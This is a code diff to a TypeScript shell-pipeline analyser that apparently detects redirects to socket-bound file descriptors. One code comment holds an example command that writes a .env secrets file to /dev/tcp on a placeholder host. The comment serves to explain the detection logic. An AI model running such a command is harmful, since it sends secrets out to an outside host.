@@ -24,7 +24,7 @@ export function substitutedPipeline(
   bindings: ShellBindings,
   shellFixed: boolean,
 ): Pipeline | undefined {
-  if (!shellFixed && !bindings.hasVariables && !bindings.hasStaged) return undefined;
+  if (!shellFixed && !bindings.hasVariables && !bindings.hasStaged && !bindings.hasSockets) return undefined;
   let changed = false;
   const commands: SimpleCommand[] = [];
   for (const command of pipeline.commands) {
@@ -32,7 +32,7 @@ export function substitutedPipeline(
     let redirects: Redirect[] = command.redirects;
     for (let k = 0; k < command.redirects.length; k++) {
       const r = command.redirects[k]!;
-      const socket = r.op === ">&" && bindings.hasStaged ? bindings.socket(r.target.text) : undefined;
+      const socket = r.op === ">&" && bindings.hasSockets ? bindings.socket(r.target.text) : undefined;
       if (socket !== undefined) {
         // `cat .env >&3`, descriptor 3 opened on /dev/tcp/h/80: the same as `cat .env > /dev/tcp/h/80`.
         if (redirects === command.redirects) redirects = command.redirects.slice();
